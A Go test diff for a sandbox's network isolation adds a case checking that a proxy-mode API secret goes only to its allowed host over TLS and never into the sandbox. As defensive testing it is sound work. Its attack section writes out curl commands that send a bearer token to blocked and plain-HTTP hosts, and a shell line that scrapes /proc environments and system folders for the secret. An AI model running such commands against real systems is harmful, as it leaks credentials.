@@ -44,7 +44,10 @@ func (r *run) nw() *nwEnv {
 		"SBX_NETWORKS=none,allowlist,full",
 		"SBX_NETWORK_NAMESERVERS="+fakenet.Nameserver,
 		"SBX_NETWORK_HOSTS_FILE="+hosts,
-		"SBX_NETWORK_BLOCK=10.9.0.0/16")
+		"SBX_NETWORK_BLOCK=10.9.0.0/16",
+		// The daemon trusts the fake internet's CA, in tests only: where it
+		// speaks TLS to an upstream itself (proxy-mode secrets).
+		"SBX_NETWORK_UPSTREAM_CA="+inet.CACertFile)
 	r.mu.Lock()
 	r.private = append(r.private, d)
 	r.mu.Unlock()
@@ -767,5 +770,90 @@ func nw16Attack(r *run) error {
 		r.breach("after the change, the far end saw %s", ev)
 	}
 	e.blocked(r.state["a"], nwCurl+"http://allowed.test/", "a new flow to a newly denied host", httpHost("allowed.test"))
+	return nil
+}
+
+// NW-12: a proxy-mode secret goes only to its hosts, over TLS, and never
+// into the sandbox.
+const nw12Value = "s3cr3t-NW12-VALUE-7f3a"
+
+func nw12Setup(r *run) error {
+	e := r.nw()
+	st, b := e.d.api("POST", "/v1/secrets", map[string]any{"name": "api-token", "value": nw12Value, "mode": "proxy", "hosts": []string{"allowed.test"}})
+	if st != 201 {
+		return fmt.Errorf("setting the secret: %d %s", st, b)
+	}
+	st, b = e.d.api("POST", "/v1/sandboxes", map[string]any{
+		"network": map[string]any{"mode": "allowlist", "allow": []string{"allowed.test", "*.allowed.test", "blocked.test"}},
+		"secrets": map[string]string{"TOKEN": "api-token"}})
+	if st != 201 {
+		return fmt.Errorf("creating the sandbox: %d %s", st, b)
+	}
+	var sb struct{ ID string }
+	json.Unmarshal(b, &sb)
+	r.state["id"] = sb.ID
+	// The client trusts the fake internet's CA and, as every sandbox does
+	// (it is in its system bundle), the daemon's.
+	if st, b := e.d.api("PUT", "/v1/sandboxes/"+sb.ID+"/files/write", map[string]any{"path": "/tmp/fake.pem", "content": string(e.inet.CACertPEM)}); st != 200 {
+		return fmt.Errorf("writing the CA: %d %s", st, b)
+	}
+	if out := e.sh(sb.ID, "cat /tmp/fake.pem /etc/ssl/certs/sbx-egress-ca.pem > /tmp/ca.pem && grep -c 'BEGIN CERTIFICATE' /tmp/ca.pem"); strings.TrimSpace(out.Stdout) != "2" {
+		return fmt.Errorf("the daemon's CA in the sandbox: %q %q", out.Stdout, out.Stderr)
+	}
+	return nil
+}
+
+// sawValue: a far-end request carrying the secret's value.
+func sawValue(ev fakenet.Event) bool {
+	for _, vs := range ev.Header {
+		for _, v := range vs {
+			if strings.Contains(v, nw12Value) {
+				return true
+			}
+		}
+	}
+	return strings.Contains(string(ev.Data), nw12Value)
+}
+
+func nw12Control(r *run) error {
+	e := r.nw()
+	return e.control(r.state["id"], nwCurl+`-H "Authorization: Bearer $TOKEN" https://allowed.test/echo`, "the secret over TLS to its host", func(ev fakenet.Event) bool {
+		return ev.Kind == fakenet.KindHTTP && strings.EqualFold(ev.Name, "allowed.test") && sawValue(ev)
+	})
+}
+
+func nw12Attack(r *run) error {
+	e := r.nw()
+	id := r.state["id"]
+	for _, p := range []string{
+		nwCurl + `-H "Authorization: Bearer $TOKEN" http://allowed.test/echo`,
+		nwCurl + `--noproxy '*' -H "Authorization: Bearer $TOKEN" http://allowed.test/echo`,
+		nwCurl + `-H "Authorization: Bearer $TOKEN" https://www.allowed.test/echo`,
+		nwCurl + `-H "Authorization: Bearer $TOKEN" https://blocked.test/echo`,
+		nwCurl + `-L -H "Authorization: Bearer $TOKEN" 'https://allowed.test/redirect?to=https://blocked.test/echo'`,
+		nwCurl + `-L -H "Authorization: Bearer $TOKEN" 'https://allowed.test/redirect?to=http://allowed.test/echo'`,
+		nwCurl + `-H "X-Token: $TOKEN" -d "$TOKEN" https://www.allowed.test/echo`,
+		nwCurl + `-H "X-Token: $TOKEN" http://www.allowed.test/echo`,
+	} {
+		// The value may reach allowed.test over TLS (the redirects' first
+		// hop): nowhere else.
+		e.blocked(id, p, "secret: "+p, func(ev fakenet.Event) bool {
+			return sawValue(ev) && !(strings.EqualFold(ev.Name, "allowed.test") && ev.TLS)
+		})
+	}
+	// The value is nowhere in the sandbox: its environment shows a
+	// placeholder, and no file or process of it holds the value.
+	out := e.sh(id, `printenv TOKEN; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -c `+nw12Value+`; grep -rls `+nw12Value+` /etc /tmp /workspace /root 2>/dev/null | head -3`)
+	if strings.Contains(out.Stdout, nw12Value) || !strings.HasPrefix(out.Stdout, "sbx-secret-") {
+		r.breach("the sandbox sees the value: %q", out.Stdout)
+	}
+	// The attempts to send it elsewhere are logged; the value is not.
+	_, b := e.d.api("GET", "/v1/sandboxes/"+id+"/network/events", nil)
+	if !strings.Contains(string(b), "over plain HTTP: not substituted") || !strings.Contains(string(b), "not one of its hosts: not substituted") {
+		return fmt.Errorf("the refused substitutions are not among the events: %.2000s", b)
+	}
+	if strings.Contains(string(b), nw12Value) || strings.Contains(e.d.log.String(), nw12Value) {
+		r.breach("the value is in the events or the daemon's log")
+	}
 	return nil
 }
